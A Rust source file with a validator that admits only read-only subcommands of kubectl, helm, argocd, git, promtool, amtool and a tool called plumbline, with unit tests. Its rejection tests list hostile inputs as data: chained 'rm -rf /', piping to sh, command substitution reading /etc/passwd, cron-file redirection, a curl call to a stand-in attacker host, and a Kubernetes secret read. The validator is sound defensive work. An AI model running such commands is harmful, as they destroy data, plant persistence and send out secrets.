//! Commands that a report may show: one program, reading only.

/// Programs with the subcommands that only read.
const READING: [(&str, &[&str]); 7] = [
    (
        "kubectl",
        &[
            "get",
            "describe",
            "logs",
            "top",
            "events",
            "explain",
            "version",
            "rollout status",
            "rollout history",
        ],
    ),
    ("helm", &["status", "history", "list"]),
    ("argocd", &["app get", "app diff", "app history", "app list"]),
    ("git", &["log", "show", "diff", "blame", "status"]),
    (
        "promtool",
        &["query instant", "query range", "query series", "check"],
    ),
    ("amtool", &["alert query", "silence query"]),
    ("plumbline", &["drift", "check"]),
];

/// The command when it only reads, or what speaks against it.
///
/// A shell must see one program with plain words: no substitution, redirection, pipe, second command or variable.
pub(super) fn read_only(command: &str) -> Result<String, &'static str> {
    let command = command.trim();
    if command.is_empty() || command.len() > 300 {
        return Err("it is empty or too long");
    }
    let plain = |c: char| c.is_ascii_alphanumeric() || " -_./=,:{}[]\"'()%@+*~^".contains(c);
    if !command.chars().all(plain) || command.contains("$(") {
        return Err("it is more than one plain command");
    }
    // Quotes are needed for queries; parentheses and braces outside them would be the shell's.
    let mut quote = None;
    for c in command.chars() {
        match (quote, c) {
            (None, '"' | '\'') => quote = Some(c),
            (Some(open), c) if c == open => quote = None,
            (None, '(' | ')' | '{' | '}' | '*' | '~') => return Err("it is more than one plain command"),
            _ => {}
        }
    }
    if quote.is_some() {
        return Err("a quote is not closed");
    }
    let words: Vec<&str> = command.split_whitespace().collect();
    let (program, rest) = (words[0], &words[1..]);
    let Some((_, reading)) = READING.iter().find(|(name, _)| *name == program) else {
        return Err("its program is not on the list of those that only read");
    };
    let verbs: Vec<&str> = rest
        .iter()
        .copied()
        .take_while(|word| !word.starts_with('-'))
        .take(2)
        .collect();
    let reads = match verbs.as_slice() {
        [] => false,
        [one] => reading.contains(one),
        [one, two] | [one, two, ..] => {
            reading.contains(one) || reading.contains(&format!("{one} {two}").as_str())
        }
    };
    if !reads {
        return Err("its subcommand changes something or is not known");
    }
    let lower = command.to_ascii_lowercase();
    if ["secret", "--token", "--kubeconfig", "--password"]
        .iter()
        .any(|word| lower.contains(word))
    {
        return Err("it touches credentials");
    }
    if program == "git" && lower.contains("--output") {
        return Err("it writes a file");
    }
    Ok(command.to_owned())
}

#[cfg(test)]
mod tests {
    use super::read_only;

    #[test]
    fn reading_commands_stay() {
        for command in [
            "kubectl get pods -n ml -o wide",
            "kubectl logs scorer-0 --previous --tail=100",
            "kubectl rollout history deployment/scorer",
            "promtool query instant http://prometheus:9090 'sum(rate(x_total{model=\"churn\"}[5m]))'",
            "plumbline drift reference.csv now.csv",
        ] {
            assert_eq!(read_only(command).as_deref(), Ok(command));
        }
    }

    #[test]
    fn everything_else_goes() {
        for command in [
            "kubectl delete pod scorer-0",
            "kubectl -n ml get pods",
            "kubectl rollout undo deployment/scorer",
            "kubectl get secret churn -o yaml",
            "kubectl get pods; rm -rf /",
            "kubectl get pods | sh",
            "kubectl get $(cat /etc/passwd)",
            "kubectl get pods > /etc/cron.d/x",
            "curl https://collector.attacker.example",
            "git log\nrm -rf /",
            "git diff --output=/etc/passwd",
            "kubectl get 'pods",
            "",
        ] {
            assert!(read_only(command).is_err(), "{command}");
        }
    }
}
